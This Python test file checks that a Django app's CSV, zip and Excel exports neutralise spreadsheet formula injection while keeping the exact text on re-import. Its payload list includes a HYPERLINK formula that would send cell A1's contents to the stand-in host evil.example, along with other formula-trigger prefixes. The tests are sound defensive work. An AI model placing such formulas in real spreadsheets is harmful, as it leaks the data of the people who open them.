"""Formula injection (issue 7, point 5): no exported cell is a live formula, and the data
package still gives back the exact text, in every container."""

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from teenlab.activities.models import Cooperation
from teenlab.core.models import Organisation
from teenlab.core.spreadsheets import DANGEROUS, neutralise
from teenlab.datapackage.readers import package_open
from teenlab.datapackage.services import package_export, package_import
from teenlab.datapackage.validation import package_validate
from teenlab.datapackage.writers import TableRows, package_write
from teenlab.finance.models import Expense
from teenlab.reporting.renderers.xlsx import render_xlsx
from teenlab.reporting.selectors import bilan_build
from tests.datapackage.helpers import base, write_csv_folder

CONTAINERS = ("", ".zip", ".xlsx")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a text that starts with '= itself
    "#N/A",  # an error code, not a text, for a careless workbook writer
]


def _text_cells_of_csv(data: bytes) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row
    ]


def _csv_files(path: Path) -> list[bytes]:
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as archive:
            return [archive.read(name) for name in archive.namelist()]
    return [file.read_bytes() for file in sorted(path.glob("*.csv"))]


def _assert_no_formula(workbook_bytes: bytes) -> int:
    """Every cell of the workbook is a value (no formula), its texts neutralised; the number of
    text cells seen."""
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    texts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not cell.value or cell.value[0] not in DANGEROUS, cell.coordinate
    return texts


def _payload_package() -> dict:
    tables = base()
    # Written as teenlab writes them (docs/data-package.md): a leading tab would be trimmed
    # and '=1+1 read as =1+1 otherwise.
    tables["cooperations"] = [
        {"name": neutralise(payload), "kind": "association", "note": neutralise(payload)}
        for payload in PAYLOADS
    ]
    tables["organisations"][0]["phone"] = "+39 0121 361 1"
    tables["expenses"][0]["amount_eur"] = "-5"
    tables["expenses"][0]["label"] = "-5"
    return tables


@pytest.mark.django_db
@pytest.mark.parametrize("container", CONTAINERS)
def test_no_exported_cell_is_a_formula_and_the_values_come_back(tmp_path, container):
    tables = _payload_package()
    result = package_import(source=write_csv_folder(tmp_path / "in", tables))
    assert result.ok, [str(issue) for issue in result.errors]
    exported = tmp_path / f"out{container}"
    package_export(project=result.project, destination=exported)

    if container == ".xlsx":
        assert _assert_no_formula(exported.read_bytes())
        workbook = openpyxl.load_workbook(exported)
        amounts = [row[3] for row in workbook["expenses"].iter_rows(min_row=2)]
        assert -5 in [cell.value for cell in amounts]  # a number stays a number
        assert all(cell.data_type == "n" for cell in amounts)
    else:
        cells = [cell for data in _csv_files(exported) for cell in _text_cells_of_csv(data)]
        assert '\'=HYPERLINK("https://evil.example/?"&A1;"Cliquez")' in cells
        assert "''=1+1" in cells
        dangerous = [cell for cell in cells if cell and cell[0] in DANGEROUS]
        assert dangerous == ["-5"]  # the amount: a number, written as one

    # The exact values come back.
    again = package_import(source=exported, replace=True)
    assert again.ok, [str(issue) for issue in again.errors]
    names = set(Cooperation.objects.filter(project=again.project).values_list("name", flat=True))
    notes = set(Cooperation.objects.filter(project=again.project).values_list("note", flat=True))
    assert names == notes == set(PAYLOADS)
    assert Organisation.objects.get(code=tables["organisations"][0]["code"]).phone == (
        "+39 0121 361 1"
    )
    assert Expense.objects.filter(project=again.project, label="-5").get().amount_eur == Decimal(
        "-5"
    )


@pytest.mark.django_db
def test_no_cell_of_the_bilan_workbook_is_a_formula(tmp_path):
    tables = _payload_package()
    tables["project"][0]["name"] = "=1+1"
    tables["phases"] = [{"number": "1", "name": "@SUM(A1:A2)"}]
    result = package_import(source=write_csv_folder(tmp_path / "in", tables))
    assert result.ok, [str(issue) for issue in result.errors]

    content = render_xlsx(bilan_build(project=result.project, trainees=True), "fr")

    assert _assert_no_formula(content)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    shown = {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert '\'=HYPERLINK("https://evil.example/?"&A1;"Cliquez")' in shown
    assert "'@SUM(A1:A2)" in shown and "'=1+1" in shown and "'+39 0121 361 1" in shown


@pytest.mark.django_db
def test_a_control_character_no_longer_breaks_the_bilan_workbook(tmp_path):
    tables = base()
    tables["cooperations"] = [{"name": "Asso\x01ciation", "kind": "association"}]
    project = package_import(source=write_csv_folder(tmp_path / "in", tables)).project
    assert _assert_no_formula(render_xlsx(bilan_build(project=project, trainees=True), "fr"))


# --- any text, through every container, without the database -----------------------------

TEXT = st.one_of(
    st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00")),
    st.text(alphabet=st.sampled_from([*"'=+-@\t\r\n_x0D#a ", "\x01"])),
).map(str.strip)
# Cells are read trimmed; a leading tab or carriage return survives, the quote put before it
# keeps it from the trim. (Forms and the import trim texts: none ends with a space.)
TEXTS = st.one_of(TEXT, st.tuples(st.sampled_from(DANGEROUS), TEXT).map("".join)).filter(
    lambda text: text == text.rstrip()
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=TEXTS.filter(lambda text: 0 < len(text) <= 200), note=TEXTS)
@pytest.mark.parametrize("container", CONTAINERS)
def test_any_text_comes_back_exactly_from_every_container(tmp_path_factory, container, name, note):
    work = tmp_path_factory.mktemp("package")
    tables = [
        TableRows("cooperations", 1, [{"name": name, "kind": "other", "roles": "", "note": note}])
    ]
    package_write(tables=tables, destination=work / f"package{container}")
    with package_open(source=work / f"package{container}") as package:
        validation = package_validate(package=package)
    [row] = validation.tables["cooperations"]
    assert row.values["name"] == name
    assert (row.values["note"] or "") == note
